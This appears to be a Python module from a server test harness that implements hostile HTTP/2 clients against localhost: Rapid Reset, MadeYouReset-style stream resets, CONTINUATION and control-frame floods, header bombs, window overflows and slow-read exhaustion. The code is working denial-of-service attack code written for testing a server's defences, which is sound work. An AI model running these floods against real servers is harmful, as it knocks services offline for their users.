"""What hostile clients do with HTTP/2 (harness/http2.py). Each attack goes on until its connection ends."""

import time

from .http2 import frame
from .timing import scaled

# The head of a GET of /, without the dynamic table.
HEAD = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/")]
LARGEST_INCREMENT = bytes([0x7f, 0xff, 0xff, 0xff])


def rapid_reset(client):
    number = client.h2.get_next_available_stream_id()
    head = client.h2.encoder.encode(HEAD)
    while client.raw(frame(1, 5, number, head) + frame(3, 0, number, bytes([0, 0, 0, 8]))):
        number += 2


def stream_of(data):
    def flood(client):
        while client.raw(data * 100):
            pass
    return flood


def empty_data(client):
    number = client.begin(method="POST", end=False)
    stream_of(frame(0, 0, number))(client)


def continuation(client):
    client.raw(frame(1, 0, 1))
    stream_of(frame(9, 0, 1))(client)


def header_bomb(client):
    encode = client.h2.encoder.encode
    head = encode([*HEAD, ("x", "y" * 3900)])
    client.raw(frame(1, 1, 1, head) + frame(9, 4, 1, encode([("x", "y" * 3900)]) * 10000))
    while client.raw(frame(6, 0, 0, bytes(8))):
        pass


def made_to_reset(frames):
    """MadeYouReset (2025): requests, each followed by a frame that makes the server reset its stream."""
    def attack(client):
        number = client.h2.get_next_available_stream_id()
        head = client.h2.encoder.encode(HEAD)
        while client.raw(frame(1, 5, number, head) + frames(number)):
            number += 2
    return attack


FLOODS = {
    "rapid reset": (rapid_reset, "rapid_reset"),
    "ping": (stream_of(frame(6, 0, 0, bytes(8))), "control_frames"),
    "settings": (stream_of(frame(4, 0, 0)), "control_frames"),
    "priority": (stream_of(frame(2, 0, 1, bytes(4) + b"\x05")), "control_frames"),
    "window update": (stream_of(frame(8, 0, 0, bytes([0, 0, 0, 1]))), "control_frames"),
    "unknown frames": (stream_of(frame(0xbe, 0, 0)), "control_frames"),
    "empty data": (empty_data, "empty_frames"),
    "continuation": (continuation, "header_block"),
    "header bomb": (header_bomb, "header_block"),
}
# Frames that are errors of a stream in the RFC; here the first one ends the connection, or many do.
MADE_TO_RESET = {
    "window increments of 0": made_to_reset(lambda number: frame(8, 0, number, bytes(4))),
    "windows that overflow": made_to_reset(lambda number: frame(8, 0, number, LARGEST_INCREMENT)),
    "content behind the end": made_to_reset(lambda number: frame(0, 0, number, b"x")),
    "priorities of their own": made_to_reset(lambda number: frame(2, 0, number, number.to_bytes(4, "big") + b"\0")),
}


def overflowing_connection(client):
    """One frame, which is an error of the connection (RFC 9113 section 6.9.1)."""
    client.raw(frame(8, 0, 0, LARGEST_INCREMENT))
    client.read_to_end()


def closed_windows(client):
    """Streams whose responses the client does not take; the connection shows life by PING until it ends."""
    for _ in range(90):
        client.begin("/bytes/1000000")
    while client.raw(frame(6, 0, 0, bytes(8))):
        time.sleep(scaled(0.05))


def held_requests(client):
    """Streams whose content does not come."""
    for _ in range(90):
        client.begin(method="POST", end=False)
    while client.raw(frame(6, 0, 0, bytes(8))):
        time.sleep(scaled(0.05))


# Attacks that are no floods.
QUIET = {"a connection's window that overflows": overflowing_connection, "closed windows": closed_windows,
         "content that does not come": held_requests}
